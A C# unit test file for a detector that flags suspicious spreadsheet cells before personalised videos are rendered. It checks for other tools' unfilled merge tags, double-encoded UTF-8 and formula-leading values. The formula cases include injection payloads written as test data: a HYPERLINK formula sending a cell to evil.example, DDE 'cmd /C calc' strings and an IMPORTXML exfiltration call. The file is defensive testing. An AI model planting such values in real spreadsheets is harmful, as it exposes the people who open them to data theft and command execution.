using BatchVideo.Scripts;

namespace BatchVideo.Tests.Scripts;

/// <summary>
/// Values that are not what they look like are problems before paying (issue 22, item 2): other mail
/// tools' unfilled merge tags, spreadsheet formulas, and double-encoded UTF-8, each its own code, each
/// acceptable per campaign.
/// </summary>
[TestFixture]
public sealed class SuspiciousValueTests
{
    private static readonly string[] Headers = ["id", "First Name", "company"];

    private static RenderResult Render(string firstName, string company = "Acme", string script = "Hi {{ first_name }} of {{ company }}!", params string[] accepted) =>
        new ScriptRenderer(ScriptTemplate.Parse(script, "t.sbn"), null, Headers, [])
        {
            AcceptedProblems = accepted.ToHashSet(),
        }.Render(["1", firstName, company], "1", "welcome");

    [TestCase("{{first_name}}")]
    [TestCase("{{ contact.firstname }}")]
    [TestCase("*|FNAME|*")]
    [TestCase("*|MERGE3|*")]
    [TestCase("[First Name]")]
    [TestCase("[[first_name]]")]
    [TestCase("%FIRSTNAME%")]
    [TestCase("%%FirstName%%")]
    [TestCase("{!Contact.FirstName}")]
    [TestCase("{!Account.Name}")]
    [TestCase("«First Name»")]
    [TestCase("<<First_Name>>")]
    [TestCase("${firstName}")]
    [TestCase("{$name}")]
    [TestCase("{first_name}")]
    [TestCase("{% if x %}Ann{% endif %}")]
    [TestCase("Dear {{ first_name }}")]
    public void Unfilled_merge_tags_of_other_mail_tools_are_found(string cell) =>
        Assert.That(SuspiciousValue.Find(cell)?.Code, Is.EqualTo(SuspiciousValue.MergeTag));

    [TestCase("=HYPERLINK(\"http://evil.example/?d=\"&E2,\"Click\")")]
    [TestCase("=1+1")]
    [TestCase("=A1")]
    [TestCase("+cmd|' /C calc'!A0")]
    [TestCase("-2+3+cmd|' /C calc'!A0")]
    [TestCase("@SUM(1+9)*cmd|' /C calc'!A0")]
    [TestCase("+A1")]
    [TestCase("-SUM(A1:A9)")]
    [TestCase("=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")")]
    [TestCase(" =1+1")]
    public void Formula_leading_values_are_found(string cell) =>
        Assert.That(SuspiciousValue.Find(cell)?.Code, Is.EqualTo(SuspiciousValue.Formula));

    [TestCase("RenÃ©e", "Renée")]
    [TestCase("Oâ€™Brien", "O’Brien")]
    [TestCase("MÃ¼ller GmbH", "Müller GmbH")]
    [TestCase("Ã\u0081lvaro", "Álvaro")]
    [TestCase("FranÃ§ois", "François")]
    [TestCase("â€œBestâ€\u009D Foods", "“Best” Foods")]
    [TestCase("æ\u009D\u017Då\u00B0\u008F", "李小")] // E6 9D 8E E5 B0 8F read as Windows-1252 (0x8E is Ž)
    public void Double_encoded_UTF8_is_found_and_read_as_meant(string cell, string meant)
    {
        Assert.That(SuspiciousValue.Find(cell)?.Code, Is.EqualTo(SuspiciousValue.DoubleEncoded));
        Assert.That(SuspiciousValue.Redecoded(cell), Is.EqualTo(meant));
    }

    [TestCase("Ann")]
    [TestCase("-")]
    [TestCase("+49 30 1234-567")]
    [TestCase("+1 (555) 010-0000")]
    [TestCase("-5")]
    [TestCase("-Novak")]
    [TestCase("@annlee")]
    [TestCase("ann@example.com")]
    [TestCase("Zoë")]
    [TestCase("Müller & Söhne")]
    [TestCase("O’Brien")]
    [TestCase("Ã")]
    [TestCase("Acme [US]")]
    [TestCase("50% off, 20% more")]
    [TestCase("100%")]
    [TestCase("Price, Price & Webb")]
    [TestCase("李小龍")]
    [TestCase("Jean-Luc")]
    [TestCase("AT&T")]
    [TestCase("1.234,56")]
    public void Values_that_are_what_they_look_like_are_not_flagged(string cell) =>
        Assert.That(SuspiciousValue.Find(cell), Is.Null);

    [Test]
    public void Row_is_rejected_naming_the_column_the_value_as_written_the_code_and_the_way_to_accept_it()
    {
        var result = Render("Ann", "{!Account.Name}");

        Assert.That(result.Problem!.Column, Is.EqualTo("company"));
        Assert.That(result.Problem.Code, Is.EqualTo("merge_tag"));
        Assert.That(result.Problem.Reason, Is.EqualTo(
            "column 'company' '{!Account.Name}' holds another mail tool's unfilled merge tag ('{!Account.Name}') instead of a value; fill it in where the list came from, "
            + "or clear it so the row is empty there; if such values are right for this campaign, accept them with Campaigns:welcome:AcceptProblems [\"merge_tag\"]"));
    }

    [Test]
    public void Values_read_through_row_by_header_are_checked_too() =>
        Assert.That(Render("=1+1", script: "Hi {{ row[\"First Name\"] }}!").Problem?.Code, Is.EqualTo("formula"));

    [Test]
    public void Columns_the_template_does_not_read_are_not_checked() =>
        Assert.That(Render("Ann", "=1+1", script: "Hi {{ first_name }}!").Script, Is.EqualTo("Hi Ann!"));

    [Test]
    public void A_campaign_that_accepts_a_code_speaks_such_values_and_still_rejects_the_others()
    {
        Assert.That(Render("RenÃ©e", accepted: "double_encoded").Script, Is.EqualTo("Hi RenÃ©e of Acme!"));
        Assert.That(Render("RenÃ©e", "=1+1", accepted: "double_encoded").Problem?.Code, Is.EqualTo("formula"));
    }
}
